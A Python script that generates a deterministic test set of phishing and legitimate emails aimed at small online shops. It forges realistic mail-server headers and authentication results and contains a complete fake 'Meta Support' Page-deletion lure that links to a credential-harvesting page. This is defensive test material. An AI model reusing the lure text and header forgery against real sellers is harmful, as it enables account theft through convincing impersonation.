#!/usr/bin/env python3
"""Blind evaluation set 37: online sellers, small e-commerce shops and social-media marketers.

Population: people in the US, UK, EU and Latin America who run Shopify, Etsy, eBay, Amazon Seller
Central, WooCommerce, TikTok Shop and Mercado Libre stores, Meta business pages and ad accounts, Google
Ads / Merchant Center, Stripe, PayPal Business, Wise Business and Payoneer accounts (2024-2026), and the
attacks that really reach them, next to the genuine platform, buyer, supplier and agency mail they get.

Seven recipient organisations: Luna & Fern (US Shopify/Amazon candle shop, Google Workspace),
Kestrel & Co (UK Etsy/eBay ceramics, Microsoft 365), Holzwerk Lindner (German WooCommerce shop,
self-hosted Postfix), Tienda Quetzal (Mexican Mercado Libre/Shopify seller, Google Workspace),
Brisa Moda (Brazilian Mercado Livre/TikTok Shop seller, Microsoft 365), Northbound Social (US
social-media agency, Google Workspace), Casa Olivo (Spanish Shopify shop, Google Workspace) and one
Etsy maker on a consumer Gmail address.

Run:
    cd /work/main && .venv/bin/python samples/tools/build_blind37_samples.py

It deletes samples/mail/*/b37-*.eml, writes 50 attacks and 25 legitimate messages into
samples/mail/<folder>/ and the manifest samples/tools/blind37_manifest.txt. Output is deterministic.
"""

from __future__ import annotations

import hashlib
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email import policy
from email.header import Header
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = HERE.parent.parent
MAIL = ROOT / "samples" / "mail"
MANIFEST = HERE / "blind37_manifest.txt"

# Maintainer's corrections after the first scan: filed where the engine's classification puts them
# (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b37-legit-docusign-agency-contract-es": "clean",
    "b37-legit-ebay-member-question": "clean",
    "b37-legit-paypal-password-reset": "clean",
    "b37-legit-paypal-payment-received-uk": "clean",
    # A link to a download, no program in the message: the engine names the lure phishing (URL_PROGRAM_DOWNLOAD's rule).
    "b37-phish-buyer-dropbox-scr-es": "phishing",
    "b37-phish-cfdi-factura-zip-mx": "phishing",
    "b37-phish-copyright-firebase-zip-es": "phishing",
    "b37-phish-influencer-collab-mediafire-rar": "phishing",
    "b37-phish-woocommerce-fake-security-patch": "phishing",
}

# ---------------------------------------------------------------------------------------------
# deterministic tokens

LOW = "abcdefghijklmnopqrstuvwxyz0123456789"
HEX = "0123456789abcdef"
UHEX = "0123456789ABCDEF"
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
B64 = ALNUM + "+/"
DIG = "0123456789"
UPPER = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"


def tok(seed: str, n: int, alpha: str = LOW) -> str:
    out: list[str] = []
    counter = 0
    while len(out) < n:
        digest = hashlib.sha256(f"{seed}/{counter}".encode()).digest()
        out.extend(alpha[b % len(alpha)] for b in digest)
        counter += 1
    return "".join(out[:n])


def num(seed: str, n: int) -> str:
    return str(int(tok(seed, 1, "123456789"))) + tok(seed + "#", n - 1, DIG)


# ---------------------------------------------------------------------------------------------
# time

def utc(s: str) -> datetime:
    return datetime.strptime(s, "%Y-%m-%d %H:%M:%S").replace(tzinfo=timezone.utc)


def _sunday(year: int, month: int, nth: int) -> datetime:
    """nth Sunday of the month (nth=-1: the last one), midnight UTC."""
    if nth > 0:
        day = datetime(year, month, 1, tzinfo=timezone.utc)
        day += timedelta(days=(6 - day.weekday()) % 7)
        return day + timedelta(days=7 * (nth - 1))
    nxt = datetime(year + (month == 12), month % 12 + 1, 1, tzinfo=timezone.utc)
    last = nxt - timedelta(days=1)
    return last - timedelta(days=(last.weekday() - 6) % 7)


def _us_dst(t: datetime) -> bool:
    return _sunday(t.year, 3, 2) + timedelta(hours=10) <= t < _sunday(t.year, 11, 1) + timedelta(hours=9)


def _eu_dst(t: datetime) -> bool:
    return _sunday(t.year, 3, -1) + timedelta(hours=1) <= t < _sunday(t.year, 10, -1) + timedelta(hours=1)


FIXED = {"utc": (0, "UTC"), "mexico": (-360, "CST"), "brazil": (-180, "-03"), "argentina": (-180, "-03"),
         "china": (480, "CST"), "india": (330, "IST"), "lagos": (60, "WAT"), "manila": (480, "PST"),
         "vietnam": (420, "+07"), "pakistan": (300, "PKT"), "colombia": (-300, "-05")}


def zone(name: str, t: datetime) -> tuple[int, str]:
    if name in FIXED:
        return FIXED[name]
    if name == "pacific":
        return (-420, "PDT") if _us_dst(t) else (-480, "PST")
    if name == "eastern":
        return (-240, "EDT") if _us_dst(t) else (-300, "EST")
    if name == "central":
        return (-300, "CDT") if _us_dst(t) else (-360, "CST")
    if name == "uk":
        return (60, "BST") if _eu_dst(t) else (0, "GMT")
    if name == "cet":
        return (120, "CEST") if _eu_dst(t) else (60, "CET")
    raise ValueError(name)


def dt(t: datetime, zname: str = "utc", label: bool = False) -> str:
    minutes, lab = zone(zname, t)
    s = format_datetime(t.astimezone(timezone(timedelta(minutes=minutes))))
    return f"{s} ({lab})" if label else s


def ago(t: datetime, seconds: int) -> datetime:
    return t - timedelta(seconds=seconds)


def epoch(t: datetime) -> int:
    return int(t.timestamp())


# ---------------------------------------------------------------------------------------------
# header helpers

def enc(value: str) -> str:
    """RFC 2047 for non-ASCII header text (display names, subjects)."""
    try:
        value.encode("ascii")
        return value
    except UnicodeEncodeError:
        return Header(value, "utf-8").encode(linesep="\n")


def addr(name: str, email: str) -> str:
    if not name:
        return email
    try:
        name.encode("ascii")
    except UnicodeEncodeError:
        return f"{enc(name)} <{email}>"
    if any(c in name for c in ',.;:@()"&'):
        return f'"{name}" <{email}>'
    return f"{name} <{email}>"


def dkim(d: str, s: str, seed: str, t: datetime, h: str, *, i: str = "", q: bool = False,
         c: str = "relaxed/relaxed", x: int = 0, darn: str = "") -> str:
    bh = tok(seed + "bh", 43, B64) + "="
    b = tok(seed + "sig", 342, B64) + "=="
    parts = [f"v=1; a=rsa-sha256; c={c}; d={d};", f"s={s};"]
    if i:
        parts.append(f"i={i};")
    if q:
        parts.append("q=dns/txt;")
    parts.append(f"t={epoch(t)};")
    if x:
        parts.append(f"x={epoch(t) + x};")
    if darn:
        parts.append(f"darn={darn};")
    head = "DKIM-Signature: " + " ".join(parts[:2]) + "\n\t" + " ".join(parts[2:])
    head += f"\n\th={h};\n\tbh={bh};\n\tb="
    chunks = [b[k:k + 70] for k in range(0, len(b), 70)]
    return head + "\n\t ".join(chunks)


SPF_TXT = {
    "pass": "domain of {mf} designates {ip} as permitted sender",
    "fail": "domain of {mf} does not designate {ip} as permitted sender",
    "softfail": "domain of transitioning {mf} does not designate {ip} as permitted sender",
    "neutral": "{ip} is neither permitted nor denied by best guess record for domain of {mf}",
    "none": "domain of {mf} does not designate permitted sender hosts",
}


class Auth:
    """What the receiving MX saw: connecting IP, names, envelope sender and the verdicts."""

    def __init__(self, ip: str, rdns: str, mailfrom: str, hfrom: str, *, helo: str = "", spf: str = "pass",
                 dkim: list[tuple[str, str, str]] | None = None, dmarc: str | None = "pass", p: str = "reject",
                 sp: str = "", tls: str = "TLS1_3"):
        self.ip, self.rdns, self.mailfrom, self.hfrom = ip, rdns, mailfrom, hfrom
        self.helo = helo or rdns
        self.spf, self.dkim, self.dmarc, self.p, self.sp = spf, dkim or [], dmarc, p, sp or p
        self.tls = tls

    @property
    def mf_domain(self) -> str:
        return self.mailfrom.rsplit("@", 1)[-1]


def _hx(seed: str, n: int) -> str:
    return tok(seed, n, HEX).lstrip("0") or "1"


def top_gws(rcpt: str, t: datetime, a: Auth, seed: str) -> list[str]:
    """Google Workspace / Gmail: the headers mx.google.com and the mailbox add."""
    pac = dt(t + timedelta(seconds=1), "pacific", True)
    pac0 = dt(t, "pacific", True)
    mxid = tok(seed + "mxid", 13, LOW) + "." + num(seed + "mxn", 3)
    lines = [
        f"Delivered-To: {rcpt}",
        f"Received: by 2002:a05:{_hx(seed + 'r1', 4)}:{_hx(seed + 'r2', 3)}:b0:{_hx(seed + 'r3', 3)}:"
        f"{_hx(seed + 'r4', 4)} with SMTP id {tok(seed + 'r5', 2, LOW)}{num(seed + 'r6', 2)}csp"
        f"{num(seed + 'r7', 7)}{tok(seed + 'r8', 3, LOW)};\n        {pac}",
        f"X-Received: by 2002:a17:{_hx(seed + 'x1', 3)}:{_hx(seed + 'x2', 4)}:b0:{_hx(seed + 'x3', 3)}:"
        f"{_hx(seed + 'x4', 4)} with SMTP id {tok(seed + 'x5', 16, LOW)}.{num(seed + 'x6', 3)}."
        f"{epoch(t)}{num(seed + 'x7', 3)};\n        {pac}",
        f"Return-Path: <{a.mailfrom}>",
    ]
    host = f"{a.rdns} ({a.rdns}. [{a.ip}])" if a.rdns != "unknown" else f"{a.helo} (unknown [{a.ip}])"
    if a.ip.startswith("209.85."):
        lines.append(f"Received: from {host}\n        by mx.google.com with SMTPS id {mxid}\n"
                     f"        for <{rcpt}>\n        (Google Transport Security);\n        {pac0}")
    else:
        cipher = ("(version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256)" if a.tls == "TLS1_3" else
                  "(version=TLS1_2 cipher=ECDHE-ECDSA-AES128-GCM-SHA256 bits=128/128)")
        lines.append(f"Received: from {host}\n        by mx.google.com with ESMTPS id {mxid}\n"
                     f"        for <{rcpt}>\n        {cipher};\n        {pac0}")
    spf_text = SPF_TXT[a.spf].format(mf=a.mailfrom, ip=a.ip)
    lines.append(f"Received-SPF: {a.spf} (google.com: {spf_text}) client-ip={a.ip};")
    parts = []
    for d, s, res in a.dkim:
        extra = " (body hash did not verify)" if res == "neutral" else ""
        parts.append(f"dkim={res}{extra} header.i=@{d} header.s={s} header.b={tok(seed + d + s, 8, ALNUM)}")
    parts.append(f"spf={a.spf} (google.com: {spf_text}) smtp.mailfrom={a.mailfrom}")
    if a.dmarc == "pass":
        parts.append(f"dmarc=pass (p={a.p.upper()} sp={a.sp.upper()} dis=NONE) header.from={a.hfrom}")
    elif a.dmarc == "fail":
        dis = a.p.upper() if a.p != "none" else "NONE"
        parts.append(f"dmarc=fail (p={a.p.upper()} sp={a.sp.upper()} dis={dis}) header.from={a.hfrom}")
    lines.append("Authentication-Results: mx.google.com;\n" + ";\n".join("       " + p for p in parts))
    return lines


M365_SITES = {
    "gbr": ("GBRP265.PROD.OUTLOOK.COM", ["LO0P265MB", "CWLP265MB", "LO2P265MB"], "CWXP265CA", "LO1PEPF0000"),
    "bra": ("BRAP284.PROD.OUTLOOK.COM", ["CP6P284MB", "RO2P284MB", "CPWP284MB"], "CP5P284CA", "CP6PEPF0000"),
    "nam": ("namprd12.prod.outlook.com", ["SA1PR12MB", "DM4PR12MB", "LV8PR12MB"], "BN9PR03CA", "BN2PEPF0000"),
    "eur": ("eurprd04.prod.outlook.com", ["AS8PR04MB", "DB9PR04MB", "PAXPR04MB"], "DU2PR04CA", "DB1PEPF0000"),
}


def _ms_host(seed: str, site: str, kind: int) -> tuple[str, str]:
    suffix, mbx, fe, edge = M365_SITES[site]
    if kind == 0:
        name = f"{mbx[int(tok(seed, 1, '012'))]}{num(seed + 'm', 4)}.{suffix}"
    elif kind == 1:
        name = f"{fe}{num(seed + 'f', 4)}.{suffix}"
    else:
        name = f"{edge}{tok(seed + 'e', 4, UHEX)}.{suffix}"
    v6 = f"{'2603:10b6' if site == 'nam' else '2603:10a6'}:{_hx(seed + 'v1', 3)}:{_hx(seed + 'v2', 3)}::{_hx(seed + 'v3', 2)}"
    return name, v6


def top_m365(rcpt: str, t: datetime, a: Auth, seed: str, site: str) -> list[str]:
    mbx, v6a = _ms_host(seed + "mbx", site, 0)
    mbx2, _ = _ms_host(seed + "mbx2", site, 0)
    fe, v6b = _ms_host(seed + "fe", site, 1)
    edge, _ = _ms_host(seed + "edge", site, 2)
    edge_short = edge.split(".", 1)[0]
    build = f"15.20.{num(seed + 'b1', 4)}.{num(seed + 'b2', 2)}"
    t1, t2, t3 = dt(t + timedelta(seconds=2)), dt(t + timedelta(seconds=1)), dt(t)
    v6c = f"2603:10a6:{_hx(seed + 'c1', 3)}:{_hx(seed + 'c2', 3)}:cafe::{_hx(seed + 'c3', 2)}"
    if a.dmarc == "pass":
        dmarc_txt, comp = "dmarc=pass action=none", "compauth=pass reason=100"
    elif a.dmarc == "fail":
        action = {"reject": "oreject", "quarantine": "quarantine", "none": "none"}[a.p]
        dmarc_txt, comp = f"dmarc=fail action={action}", "compauth=fail reason=000"
    else:
        dmarc_txt, comp = "dmarc=none action=none", ("compauth=pass reason=102" if a.spf == "pass"
                                                      else "compauth=softpass reason=201")
    if a.dkim:
        d, _s, res = a.dkim[0]
        dk = ("dkim=pass (signature was verified)" if res == "pass"
              else "dkim=fail (body hash did not verify)") + f"\n header.d={d}"
    else:
        dk = "dkim=none (message not signed)\n header.d=none"
    spf_word = {"pass": "Pass", "fail": "Fail", "softfail": "SoftFail", "neutral": "Neutral", "none": "None"}[a.spf]
    spf_desc = {"pass": "designates", "fail": "does not designate", "softfail": "does not designate",
                "neutral": "does not designate", "none": "does not designate"}[a.spf]
    lines = [
        f"Received: from {mbx} ({v6a})\n by {mbx2} with HTTPS; {t1}",
        f"Received: from {fe} ({v6b}) by {mbx}\n ({v6a}) with Microsoft SMTP Server (version=TLS1_2,\n"
        f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build}; {t2}",
        f"Received: from {edge}\n ({v6c}) by {fe}\n ({v6b}) with Microsoft SMTP Server (version=TLS1_3,\n"
        f" cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {t2}",
        f"Authentication-Results: spf={a.spf} (sender IP is {a.ip})\n smtp.mailfrom={a.mf_domain}; {dk};"
        f"{dmarc_txt}\n header.from={a.hfrom};{comp}",
        f"Received-SPF: {spf_word} (protection.outlook.com: domain of {a.mf_domain}\n {spf_desc} {a.ip} as "
        f"permitted sender) receiver=protection.outlook.com;\n client-ip={a.ip}; helo={a.helo};",
        f"Received: from {a.helo} ({a.ip}) by\n {edge_short}.mail.protection.outlook.com (10.167.{num(seed + 'i1', 3)[:2]}."
        f"{num(seed + 'i2', 2)}) with Microsoft SMTP\n Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {build}"
        f" via\n Frontend Transport; {t3}",
    ]
    return lines


def top_postfix(rcpt: str, t: datetime, a: Auth, seed: str, host: str) -> list[str]:
    qid = tok(seed + "qid", 4, "0123456789BCDFGHJKLMNPQRSTVWXYZ") + tok(seed + "q2", 11, ALNUM)
    local = dt(t + timedelta(seconds=1), "cet", True)
    local0 = dt(t, "cet", True)
    rd = f"{a.rdns} ({a.rdns} [{a.ip}])" if a.rdns != "unknown" else f"{a.helo} (unknown [{a.ip}])"
    lines = [
        f"Return-Path: <{a.mailfrom}>",
        f"Delivered-To: {rcpt}",
        f"Received: from {host}\n\tby {host} with LMTP\n\tid {tok(seed + 'lmtp', 22, B64[:62])}\n"
        f"\t(envelope-from <{a.mailfrom}>)\n\tfor <{rcpt}>; {local}",
        f"Received: from {rd}\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
        f"\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n"
        f"\t(No client certificate requested)\n\tby {host} (Postfix) with ESMTPS id {qid}\n"
        f"\tfor <{rcpt}>; {local0}",
    ]
    parts = []
    for d, s, res in a.dkim:
        parts.append(f"dkim={res} header.d={d} header.s={s} header.b={tok(seed + d, 8, ALNUM)}")
    if not a.dkim:
        parts.append("dkim=none")
    spf_text = SPF_TXT[a.spf].format(mf=a.mailfrom, ip=a.ip)
    parts.append(f"spf={a.spf} ({host}: {spf_text}) smtp.mailfrom={a.mailfrom}")
    if a.dmarc in ("pass", "fail"):
        parts.append(f"dmarc={a.dmarc} reason=\"{'SPF or DKIM aligned' if a.dmarc == 'pass' else 'No valid SPF, No valid DKIM'}\""
                     f" header.from={a.hfrom} (policy={a.p})")
    else:
        parts.append(f"dmarc=none reason=\"No DMARC record\" header.from={a.hfrom} (policy=none)")
    lines.append(f"Authentication-Results: {host};\n" + ";\n".join("\t" + p for p in parts))
    return lines


VICTIMS = {
    "luna": ("gws", "Luna & Fern Candle Co.", "lunaandfern.com"),
    "kestrel": ("m365:gbr", "Kestrel & Co Ceramics", "kestrelandco.co.uk"),
    "holz": ("postfix:mail.holzwerk-lindner.de", "Holzwerk Lindner", "holzwerk-lindner.de"),
    "quetzal": ("gws", "Tienda Quetzal", "tiendaquetzal.mx"),
    "brisa": ("m365:bra", "Brisa Moda", "brisamoda.com.br"),
    "north": ("gws", "Northbound Social", "northboundsocial.com"),
    "olivo": ("gws", "Casa Olivo", "casaolivo.es"),
    "maple": ("gws", "Maple & Moss Studio", "gmail.com"),
}


def top(victim: str, rcpt: str, t: datetime, a: Auth, seed: str) -> list[str]:
    env = VICTIMS[victim][0]
    if env == "gws":
        return top_gws(rcpt, t, a, seed)
    kind, arg = env.split(":", 1)
    if kind == "m365":
        return top_m365(rcpt, t, a, seed, arg)
    return top_postfix(rcpt, t, a, seed, arg)


def mail(victim: str, rcpt: str, arrive: str, a: Auth, seed: str, own: list[str], body) -> bytes:
    """Receiver's headers above the sender's own (already in sender order), then the MIME body."""
    t = utc(arrive)
    lines = top(victim, rcpt, t, a, seed) + own
    return message("\n".join(lines), body)


def alt(plain: str, html: str, boundary: str, enc_: str = "quoted-printable") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", enc_), text(html, "html", enc_)])


def mixed(boundary: str, *parts) -> Multi:
    return Multi("mixed", boundary, list(parts))


# Message-ID and boundary styles of the sending software -----------------------------------------

def mid_gmail(seed: str) -> str:
    return f"<CA{tok(seed + 'g1', 1, 'BDEFGHJKLMNPQRSTUVWXYZ')}{tok(seed + 'g2', 42, ALNUM + '+_-')}@mail.gmail.com>"


def bnd_gmail(seed: str) -> str:
    return "000000000000" + tok(seed + "gb", 12, HEX)


def mid_outlook(seed: str, site: str = "eur") -> str:
    name, _ = _ms_host(seed + "o", site, 0)
    short = name.split(".", 1)[0]
    return f"<{short}{tok(seed + 'oid', 20, UHEX)}@{name}>"


def bnd_outlook(seed: str, site: str = "eur") -> str:
    name, _ = _ms_host(seed + "o", site, 0)
    short = name.split(".", 1)[0]
    return f"_000_{short}{tok(seed + 'oid', 20, UHEX)}_"


def mid_ses(seed: str, region: str = "") -> str:
    head = "0102" if region else "0100"
    body = (f"{head}{tok(seed + 's1', 12, HEX)}-{tok(seed + 's2', 8, HEX)}-{tok(seed + 's3', 4, HEX)}-"
            f"{tok(seed + 's4', 4, HEX)}-{tok(seed + 's5', 4, HEX)}-{tok(seed + 's6', 12, HEX)}-000000")
    return f"<{body}@{region + '.' if region else ''}email.amazonses.com>"


def mid_sendgrid(seed: str) -> str:
    return f"<{tok(seed + 'sg', 22, ALNUM + '_-')}@geopod-ismtpd-{num(seed + 'sgn', 2)}>"


def mid_rails(seed: str, host: str) -> str:
    return f"<{tok(seed + 'r1', 13, HEX)}_{tok(seed + 'r2', 5, HEX)}{num(seed + 'r3', 5)}@{host}.mail>"


def mid_plain(seed: str, domain: str, n: int = 32) -> str:
    return f"<{tok(seed + 'pm', n, HEX)}@{domain}>"


def bnd_java(seed: str) -> str:
    return f"----=_Part_{num(seed + 'j1', 7)}_{num(seed + 'j2', 9)}.{num(seed + 'j3', 13)}"


def bnd_php(seed: str) -> str:
    return "b1=_" + tok(seed + "php", 43, ALNUM)


def bnd_hex(seed: str, n: int = 32) -> str:
    return tok(seed + "bh", n, HEX)


def html_page(body: str, title: str = "", head_extra: str = "") -> str:
    return ("<!DOCTYPE html>\n<html>\n<head>\n<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">\n"
            "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n"
            + (f"<title>{title}</title>\n" if title else "") + head_extra
            + "</head>\n<body style=\"margin:0;padding:0;background:#f4f4f4;\">\n" + body + "\n</body>\n</html>\n")


def qr_pdf(url: str, lines: list[str], title: str) -> bytes:
    """A one-page PDF showing text and a QR code (as a grey image), the way QR-phishing PDFs look."""
    import segno

    qr = segno.make(url, error="m", micro=False)
    scale, border = 6, 4
    rows = list(qr.matrix)
    size = (len(rows) + 2 * border) * scale
    raw = bytearray()
    for y in range(size):
        my = y // scale - border
        for x in range(size):
            mx = x // scale - border
            dark = 0 <= my < len(rows) and 0 <= mx < len(rows) and rows[my][mx] & 1
            raw.append(0 if dark else 255)
    image = zlib.compress(bytes(raw), 9)
    content = ["BT", "/F1 12 Tf", "15 TL", "60 780 Td"]
    for line in lines:
        esc = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        content.append(f"({esc}) Tj T*")
    content.append("ET")
    content.append(f"q 190 0 0 190 202 330 cm /Im1 Do Q")
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, image, size, size, "FlateDecode")
    objects.append(f"<< /Title ({title}) /Producer (Skia/PDF m124) /Creator (Chromium) >>".encode())
    return files.pdf_file(objects, len(objects))


def _pdf_esc(s: str) -> str:
    return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def pdf_doc(lines: list[str], title: str, producer: str = "Microsoft: Print To PDF",
            link: tuple[str, tuple[int, int, int, int]] | None = None, button: str = "REVIEW DOCUMENT",
            author: str = "") -> bytes:
    """A one-page text PDF (like files.pdf) with the producer of the software that made that kind of document."""
    content = ["BT", "/F1 11 Tf", "14 TL", "56 780 Td"]
    content += [f"({_pdf_esc(line)}) Tj T*" for line in lines]
    content.append("ET")
    if link:
        x0, y0, x1, y1 = link[1]
        content += ["0.1 0.3 0.7 rg", f"{x0} {y0} {x1 - x0} {y1 - y0} re f",
                    "BT /F1 13 Tf 1 1 1 rg", f"{x0 + 18} {y0 + 12} Td ({_pdf_esc(button)}) Tj ET"]
    stream = "\n".join(content).encode("cp1252")
    annots = " /Annots [6 0 R]" if link else ""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
        f"/Contents 5 0 R{annots} >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
    ]
    if link:
        x0, y0, x1, y1 = link[1]
        objects.append(f"<< /Type /Annot /Subtype /Link /Rect [{x0} {y0} {x1} {y1}] /Border [0 0 0] "
                       f"/A << /S /URI /URI ({_pdf_esc(link[0])}) >> >>".encode())
    info = f"<< /Title ({_pdf_esc(title)}) /Producer ({_pdf_esc(producer)})"
    if author:
        info += f" /Author ({_pdf_esc(author)})"
    info += " /CreationDate (D:20250101093000+00'00') >>"
    objects.append(info.encode("cp1252"))
    return files.pdf_file(objects, len(objects))


def gmail_own(seed: str, sent: datetime, zname: str, frm: str, to: str, subject: str, darn: str,
              extra: list[str] | None = None, ctype_last: bool = True) -> list[str]:
    """Headers of a message written in Gmail (web), as Gmail's outbound hop leaves them."""
    lines = [
        dkim("gmail.com", "20230601", seed + "gm", sent, "to:subject:message-id:date:from:mime-version:from:to:cc"
             ":subject\n\t :date:message-id:reply-to", x=604800, darn=darn),
        f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; "
        f"t={epoch(sent)}; x={epoch(sent) + 604800};\n        h=to:subject:message-id:date:from:mime-version"
        f":x-gm-message-state:from:to:cc\n         :subject:date:message-id:reply-to;\n        "
        f"bh={tok(seed + 'xbh', 43, B64)}=;\n        b={tok(seed + 'xb', 70, B64)}\n         "
        f"{tok(seed + 'xb2', 70, B64)}\n         {tok(seed + 'xb3', 40, B64)}==",
        f"X-Gm-Message-State: AOJu0Y{tok(seed + 'gms', 58, B64)}\n\t{tok(seed + 'gms2', 30, B64)}",
        f"X-Gm-Gg: ASbGnc{tok(seed + 'ggg', 64, B64)}\n\t{tok(seed + 'ggg2', 60, B64)}",
        f"X-Google-Smtp-Source: AGHT+I{tok(seed + 'gss', 70, B64)}==",
        f"X-Received: by 2002:a05:6512:{_hx(seed + 'xr1', 4)}:b0:{_hx(seed + 'xr2', 3)}:{_hx(seed + 'xr3', 4)} "
        f"with SMTP id {tok(seed + 'xr4', 16, LOW)}-{tok(seed + 'xr5', 8, LOW)}.{num(seed + 'xr6', 2)}.{epoch(sent)}"
        f"{num(seed + 'xr7', 3)};\n        {dt(sent, 'pacific', True)}",
        "MIME-Version: 1.0",
        f"From: {frm}",
        f"Date: {dt(sent, zname)}",
        f"Message-ID: {mid_gmail(seed)}",
        f"Subject: {enc(subject)}",
        f"To: {to}",
    ]
    return lines + (extra or [])


def outlook_own(seed: str, sent: datetime, zname: str, frm: str, to: str, subject: str, d: str, site: str = "nam",
                extra_top: list[str] | None = None, attach: bool = False, lang: str = "en-US",
                cc: str = "") -> list[str]:
    """Headers of a message written in Outlook (Exchange Online) by an M365 mailbox."""
    mbx, v6 = _ms_host(seed + "o", site, 0)
    mbx2, v62 = _ms_host(seed + "o2", site, 0)
    build = f"15.20.{num(seed + 'ob', 4)}.{num(seed + 'ob2', 2)}"
    topic = subject.split(": ", 1)[1] if subject[:4].upper() in ("RE: ", "FW: ", "AW: ") else subject
    lines = [
        dkim(d, "selector1", seed + "od", sent, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:"
             "X-MS-Exchange-SenderADCheck"),
        f"Received: from {mbx} ({v6})\n by {mbx2} ({v62}) with Microsoft SMTP Server\n"
        f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build};\n {dt(sent)}",
        f"Received: from {mbx}\n ([fe80::{_hx(seed + 'll1', 4)}:{_hx(seed + 'll2', 4)}:{_hx(seed + 'll3', 4)}:"
        f"{_hx(seed + 'll4', 4)}]) by {mbx}\n ([fe80::{_hx(seed + 'll1', 4)}:{_hx(seed + 'll2', 4)}:"
        f"{_hx(seed + 'll3', 4)}:{_hx(seed + 'll4', 4)}%5]) with mapi id {build};\n {dt(ago(sent, 1))}",
    ] + (extra_top or []) + [
        f"From: {frm}",
        f"To: {to}",
    ] + ([f"CC: {cc}"] if cc else []) + [
        f"Subject: {enc(subject)}",
        f"Thread-Topic: {enc(topic)}",
        f"Thread-Index: AQHb{tok(seed + 'ti', 22, B64)}==",
        f"Date: {dt(sent)}",
        f"Message-ID: {mid_outlook(seed, site)}",
        f"Accept-Language: {lang}",
        f"Content-Language: {lang}",
        f"X-MS-Has-Attach: {'yes' if attach else ''}",
        "X-MS-TNEF-Correlator:",
        f"x-ms-publictraffictype: Email",
        "MIME-Version: 1.0",
    ]
    return lines


# =============================================================================================
# ATTACKS
# =============================================================================================

BUILDERS: list = []


def entry(stem: str, kind: str, cat: str, desc: str):
    def wrap(fn):
        BUILDERS.append((stem, kind, cat, desc, fn))
        return fn
    return wrap


META_FOOT_HTML = ('<p style="font-size:11px;color:#8a8d91;line-height:16px;margin:24px 0 0;">Meta Platforms, Inc., '
                  'Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025</p>')


@entry("b37-phish-meta-page-disable-gmail", "phish", "phishing",
       "Free Gmail account posing as 'Meta Support Center' says the shop's Facebook Page will be permanently "
       "disabled for copyright reports; 'Submit Appeal' goes to a Netlify-hosted credential page")
def p_meta_page_disable():
    seed = "p1"
    t = utc("2025-02-11 16:42:09")
    sent = ago(t, 3)
    frm = addr("Meta Support Center", "pagesupport.appeal7731@gmail.com")
    a = Auth("209.85.220.41", "mail-sor-f41.google.com", "pagesupport.appeal7731@gmail.com", "gmail.com",
             dkim=[("gmail.com", "20230601", "pass")], p="none", sp="quarantine")
    url = "https://meta-appeal-case-0487219944.netlify.app/"
    subject = 'Your Page "Luna & Fern Candle Co." will be permanently disabled - Case #0487219944'
    plain = f"""Meta for Business

Dear Page Owner,

We are writing to inform you that your Facebook Page "Luna & Fern Candle Co." has been reported for
violating our Community Standards and Intellectual Property policies. Several reports indicate that
content published on your Page infringes the copyright of a third party.

As a result, your Page is scheduled for permanent deletion. This process will be completed within
24 hours of this notice.

If you believe this decision is a mistake, you can submit an appeal. Our team will review your case
and restore your Page if no violation is found.

Submit Appeal: {url}

Case ID: #0487219944

Thank you,
The Meta Support Team

Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025
"""
    html = f"""<div dir="ltr"><table width="100%" cellpadding="0" cellspacing="0" style="background:#f0f2f5;font-family:Helvetica,Arial,sans-serif;"><tr><td align="center" style="padding:24px 0;">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:8px;">
<tr><td style="padding:20px 32px;border-bottom:1px solid #e4e6eb;"><span style="font-size:22px;font-weight:bold;color:#0866ff;">&#8734; Meta</span> <span style="font-size:14px;color:#65676b;">for Business</span></td></tr>
<tr><td style="padding:28px 32px;font-size:15px;line-height:22px;color:#1c1e21;">
<p>Dear Page Owner,</p>
<p>We are writing to inform you that your Facebook Page <b>&quot;Luna &amp; Fern Candle Co.&quot;</b> has been reported for violating our Community Standards and Intellectual Property policies. Several reports indicate that content published on your Page infringes the copyright of a third party.</p>
<p>As a result, your Page is <b style="color:#e41e3f;">scheduled for permanent deletion</b>. This process will be completed within <b>24 hours</b> of this notice.</p>
<p>If you believe this decision is a mistake, you can submit an appeal. Our team will review your case and restore your Page if no violation is found.</p>
<p style="text-align:center;margin:28px 0;"><a href="{url}" style="background:#0866ff;color:#ffffff;text-decoration:none;padding:12px 28px;border-radius:6px;font-weight:bold;" target="_blank">Submit Appeal</a></p>
<p style="color:#65676b;font-size:13px;">Case ID: #0487219944</p>
